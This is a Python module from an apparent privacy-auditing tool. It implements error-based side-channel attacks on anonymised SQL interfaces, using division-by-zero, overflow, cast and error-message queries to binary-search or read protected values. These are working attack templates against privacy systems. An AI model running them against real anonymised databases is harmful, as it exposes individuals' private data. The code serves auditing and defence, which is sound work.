"""Statements that fail for some values and not for others, and what their errors say."""

from __future__ import annotations

import re
from collections.abc import Iterator
from fractions import Fraction

from auditor.attacks.attack import Attack
from auditor.attacks.sources import AIRCLOAK, HAEBERLEN, OWN
from auditor.attacks.target import Claim, Target

ZERO = {
    "division": "SELECT 1 // (SUM({c})::BIGINT - {{0}}) FROM {t} WHERE {p}",
    "row division": "SELECT COUNT(*) FROM (SELECT error(({c} - {{0}})::VARCHAR) "
    "FROM {t} WHERE {p} AND {c} = {{0}})",
    "modulo": "SELECT CASE WHEN SUM({c}) = {{0}} THEN error('zero') END FROM {t} WHERE {p}",
}
ABOVE = {
    "overflow": "SELECT (SUM({c}) + 2147483647 - {{0}})::INTEGER FROM {t} WHERE {p}",
    "small type": "SELECT ({{0}} - SUM({c}))::UTINYINT FROM {t} WHERE {p}",
    "no number": "SELECT CASE WHEN MAX({c}) > {{0}} THEN 'x' ELSE '1' END::INTEGER FROM {t} WHERE {p}",
    "square root": "SELECT sqrt({{0}} - SUM({c})) FROM {t} WHERE {p}",
    "logarithm": "SELECT ln({{0}} + 0.5 - SUM({c})) FROM {t} WHERE {p}",
    "row overflow": "SELECT SUM(v) FROM (SELECT CASE WHEN {c} > {{0}} THEN 'x' ELSE '1' END::INTEGER AS v "
    "FROM {t} WHERE {p})",
    "subquery of several rows": "SELECT (SELECT g FROM (SELECT 1 AS g UNION ALL SELECT 2) "
    "WHERE g = 1 OR s > {{0}}) FROM (SELECT SUM({c}) AS s FROM {t} WHERE {p})",
}
SPEAKING = (
    "SELECT CAST('v' || SUM({c})::VARCHAR AS INTEGER) FROM {t} WHERE {p}",
    "SELECT CAST('v' || MAX({c})::BIGINT::VARCHAR AS DATE) FROM {t} WHERE {p}",
    "SELECT error('v' || SUM({c})::VARCHAR) FROM {t} WHERE {p}",
    "SELECT CAST('v' || {c}::VARCHAR AS INTEGER) FROM {t} WHERE {p}",
    "SELECT strptime('v' || MIN({c})::VARCHAR, '%Y') FROM {t} WHERE {p}",
)


def _words(target: Target, aim: int) -> dict[str, str]:
    return {"t": target.table, "c": target.column, "p": target.only(aim).text}


def overflow(target: Target) -> list[Claim]:
    """Halving in on a value by whether a statement fails."""
    found = []
    for aim in target.aims:
        for template in ABOVE.values():
            found += _searched(target, aim, template.format(**_words(target, aim)))
    return found


def _searched(target: Target, aim: int, template: str) -> list[Claim]:
    scene = target.scene
    low, high = 0, target.notes.top

    def failed(units: int) -> bool | None:
        reply = target.reply(template.format(_number(scene.minimum + units * scene.resolution)))
        return None if reply.verdict == "refused" else reply.rows is None

    if failed(high) is not False or failed(-1) is not True:
        return []  # it fails always, never, or is refused: nothing to tell apart
    while low < high:
        middle = (low + high) // 2
        said = failed(middle)
        if said is None:
            break
        low, high = (middle + 1, high) if said else (low, middle)
    lower, upper = (scene.minimum + end * scene.resolution for end in (low, high))
    return [target.claim(aim, lower, upper, "a binary search by whether the statement fails")]


def division(target: Target) -> list[Claim]:
    """Every value tried: the statement fails, or gives NULL, at one of them."""
    scene = target.scene
    found = []
    for aim in target.aims[:1]:
        for template in ZERO.values():
            sql = template.format(**_words(target, aim))
            signals = {}
            for units in _tries(target):
                value = scene.minimum + units * scene.resolution
                reply = target.reply(sql.format(_number(value)))
                if reply.verdict == "refused":
                    break
                empty = reply.rows is None or (bool(reply.rows) and reply.rows[0][0] is None)
                signals[value] = empty
            odd = [value for value, empty in signals.items() if empty]
            if len(odd) == 1 < len(signals):
                found.append(target.claim(aim, odd[0], odd[0], "the only value at which it fails"))
    return found


def _tries(target: Target) -> Iterator[int]:
    step = max(1, (target.notes.top + 1) // 64)
    return iter(range(0, target.notes.top + 1, step))


def _number(value: Fraction) -> str:
    return str(value.numerator) if value.denominator == 1 else f"({value.numerator} / {value.denominator}.0)"


def messages(target: Target) -> list[Claim]:
    """Errors that quote what they failed on."""
    found = []
    for aim in target.aims:
        for template in SPEAKING:
            reply = target.reply(template.format(**_words(target, aim)))
            for quoted in re.findall(r"v(-?\d+(?:\.\d+)?)", reply.said):
                value = Fraction(quoted)
                found.append(target.claim(aim, value, value, "quoted in an error"))
    return found


ATTACKS = (
    Attack(
        "division-by-zero",
        "A statement that fails, or gives NULL, at one value only.",
        f"{AIRCLOAK}, Error generation attacks: Divide by zero",
        division,
    ),
    Attack(
        "overflow",
        "A statement that fails above a bound: overflows, casts, square roots.",
        f"{AIRCLOAK}, Error generation attacks: Overflow; {HAEBERLEN}",
        overflow,
    ),
    Attack("error-messages", "Errors that quote the value they failed on.", OWN, messages),
)
